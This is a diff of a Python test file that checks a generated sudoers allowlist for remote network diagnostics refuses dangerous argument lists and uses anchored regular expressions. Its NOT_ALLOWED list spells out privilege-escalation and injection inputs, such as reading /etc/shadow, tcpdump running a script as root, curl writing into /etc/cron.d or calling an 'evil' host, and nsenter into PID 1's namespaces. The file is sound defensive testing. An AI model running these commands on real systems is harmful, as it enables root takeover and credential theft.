@@ -5,6 +5,7 @@ fails here), nothing else may (a shell, `timeout`, a write), and visudo must acc
 from __future__ import annotations
 
 import inspect
+import re
 import shutil
 import subprocess
 from pathlib import Path
@@ -14,7 +15,7 @@ import pytest
 from checks.remote import catalog
 from checks.remote.batch import as_root, build_script
 from checks.remote.catalog import CatalogCommand
-from checks.remote.sudoers import allows, render
+from checks.remote.sudoers import PATTERNS, allows, render
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -89,21 +90,128 @@ def shlex_join(argv: tuple[str, ...]) -> str:
     return shlex.join(argv)
 
 
-@pytest.mark.parametrize(
-    "argv",
-    [
-        ("sh", "-c", "id"),
-        ("timeout", "5", "sh"),
-        ("ip", "route", "add", "10.0.0.0/8", "via", "1.2.3.4"),
-        ("iptables", "-F"),
-        ("cat", "/etc/shadow"),
-        ("sysctl", "-w", "net.ipv4.ip_forward=0"),
-        ("ethtool", "-K", "eth0", "gso", "off"),
-        ("tcpdump", "-w", "/etc/cron.d/x", "-i", "eth0"),
-    ],
-)
+NOT_ALLOWED: list[tuple[str, ...]] = [
+    ("sh", "-c", "id"),
+    ("timeout", "5", "sh"),
+    ("ip", "route", "add", "10.0.0.0/8", "via", "1.2.3.4"),
+    ("iptables", "-F"),
+    ("cat", "/etc/shadow"),
+    ("sysctl", "-w", "net.ipv4.ip_forward=0"),
+    ("ethtool", "-K", "eth0", "gso", "off"),
+    ("tcpdump", "-w", "/etc/cron.d/x", "-i", "eth0"),
+    # sudo joins the arguments with spaces: a wildcard `*` there matched these (root on every node)
+    ("nsenter", "--net=/var/run/netns/x", "/bin/sh", "-c", "id>/tmp/p", "dig", "+time=1", "+tries=1", "@1.1.1.1", "A"),
+    (
+        "tcpdump",
+        "-i",
+        "lo",
+        "-nn",
+        "-l",
+        "-c",
+        "1",
+        "-w",
+        "/tmp/o",
+        "-W",
+        "1",
+        "-G",
+        "1",
+        "-z",
+        "/tmp/x.sh",
+        "-Z",
+        "root",
+        "udp",
+    ),
+    (
+        "curl",
+        "-sS",
+        "-m",
+        "2",
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "http://1.1.1.1:1/",
+        "-o",
+        "/etc/cron.d/x",
+        "http://evil:80/health",
+    ),
+    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "-f", "/etc/shadow", "A"),
+    # and their kin: extra arguments, file options, `--`, a second URL, a name that is an option
+    ("ip", "route", "get", "1.1.1.1", "from", "2.2.2.2"),
+    ("ip", "route", "flush"),
+    ("ip", "-d", "link", "show", "eth0", "&&", "id"),
+    ("ip", "-d", "link", "set", "eth0", "down"),
+    ("ip", "-d", "link", "show", "eth0 down"),
+    ("ethtool", "-k", "eth0", "-K", "eth0", "gso", "off"),
+    ("ethtool", "-k", "--", "eth0"),
+    ("iptables-save", "-t", "nat", "-M", "/tmp/x"),
+    ("uname", "-r", "--", "-a"),
+    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A", "-f", "/etc/shadow"),
+    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "-f/etc/shadow", "A"),
+    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A", "+qr"),
+    ("dig", "+time=1", "+tries=1", "-k", "/etc/shadow", "@1.1.1.1", "x.y", "A"),
+    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "--", "A"),
+    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y\nA", "A"),
+    ("nsenter", "--net=/var/run/netns/../../../proc/1/ns/net", "dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A"),
+    (
+        "nsenter",
+        "--net=/var/run/netns/x",
+        "--mount=/proc/1/ns/mnt",
+        "dig",
+        "+time=1",
+        "+tries=1",
+        "@1.1.1.1",
+        "x.y",
+        "A",
+    ),
+    ("nsenter", "--net=/var/run/netns/x", "dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A", "-f", "/etc/shadow"),
+    ("nsenter", "--net=/var/run/netns/x", "--", "sh", "dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A"),
+    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "udp and port 4789 and host 1.1.1.1", "-w", "/tmp/o"),
+    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "-z", "/tmp/x.sh", "udp and port 4789 and host 1.1.1.1"),
+    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "-w", "/tmp/o", "udp"),
+    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "-F", "/etc/shadow"),
+    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "--", "udp and port 4789 and host 1.1.1.1"),
+    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "0", "udp and port 4789 and host 1.1.1.1"),
+    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "1001", "udp and port 4789 and host 1.1.1.1"),
+    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "udp and port 4789 and host 1.1.1.1 or tcp"),
+    ("curl", "-sS", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", "http://1.1.1.1:80/health", "-o", "/etc/x"),
+    ("curl", "-sS", "-m", "2", "-o", "/etc/cron.d/x", "-w", "%{http_code}", "http://1.1.1.1:80/health"),
+    ("curl", "-sS", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", "http://evil:80/health"),
+    (
+        "curl",
+        "-sS",
+        "-m",
+        "2",
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "http://1.1.1.1:80/health",
+        "http://1.1.1.1:80/health",
+    ),
+    ("curl", "-sS", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", "-K", "/tmp/c", "http://1.1.1.1:80/health"),
+    ("curl", "-sS", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", "http://1.1.1.1:80/health/../x"),
+    ("curl", "-s", "-m", "2", "-w", "\\n%{http_code}", "http://127.0.0.1:10256/healthz", "-o", "/etc/x"),
+    ("cat", "/etc/resolv.conf", "/etc/shadow"),
+    ("cat", "/etc/resolvXconf"),
+    ("sysctl", "-a", "-r", "^net\\.ipv4\\.(ip_forward|conf\\..*\\.rp_filter)$", "-w", "net.ipv4.ip_forward=0"),
+    ("sysctl", "net.netfilter.nf_conntrack_count", "net.netfilter.nf_conntrack_max", "-p", "/tmp/x"),
+    ("conntrack", "-S", "-F"),
+]
+
+
+@pytest.mark.parametrize("argv", NOT_ALLOWED)
 def test_nothing_else_is_allowed(argv: tuple[str, ...]) -> None:
     assert not allows(argv)
+
+
+def test_the_rule_s_expressions_are_whole_line_regular_expressions() -> None:
+    """sudo reads arguments starting with `^` as one POSIX extended regular expression over the whole
+    argument string (sudo >= 1.9.10); a wildcard `*` would match extra arguments, spaces included."""
+    for _path, args in PATTERNS:
+        assert args.startswith("^") and args.endswith("$"), args
+        assert "#" not in args and len(args) <= 1024, args
+        assert ".*" not in args.replace("\\.\\*", ""), args  # nothing that crosses an argument's end
 
 
 def test_the_shipped_file_is_the_rendered_one_and_visudo_accepts_it(tmp_path: Path) -> None:
@@ -115,3 +223,28 @@ def test_the_shipped_file_is_the_rendered_one_and_visudo_accepts_it(tmp_path: Pa
     assert Path(visudo).exists(), "visudo is missing: run `bash scripts/setup.sh` (it installs Debian's sudo)"
     checked = subprocess.run([visudo, "-cf", str(shipped)], capture_output=True, text=True, check=False)
     assert checked.returncode == 0, checked.stdout + checked.stderr
+
+
+def test_posix_extended_regular_expressions_agree_with_allows() -> None:
+    """sudo matches with POSIX extended regular expressions (regcomp), `allows` with Python's `re`: GNU grep -E
+    in the C locale (sudo matches in sudoers' C locale) must accept and refuse exactly what `allows` does."""
+    grep = shutil.which("grep")
+    if grep is None:
+        pytest.skip("no grep")
+    argvs = [_under_sudo(c) for commands in every_catalog_command().values() for c in commands]
+    argvs += [a for a in NOT_ALLOWED if not any("\n" in word for word in a)]
+    for path, args in PATTERNS:
+        name = path.rsplit("/", 1)[1]
+        lines = [" ".join(a[1:]) for a in argvs if a[0] == name]
+        found = subprocess.run(
+            [grep, "-Exn", "-e", args],
+            input="".join(f"{line}\n" for line in lines),
+            capture_output=True,
+            text=True,
+            check=False,
+            env={"LC_ALL": "C"},
+        )
+        assert found.returncode in (0, 1), found.stderr
+        by_grep = {int(hit.split(":", 1)[0]) - 1 for hit in found.stdout.splitlines()}
+        by_python = {i for i, line in enumerate(lines) if re.fullmatch(args, line)}
+        assert by_grep == by_python, (args, [lines[i] for i in by_grep ^ by_python])
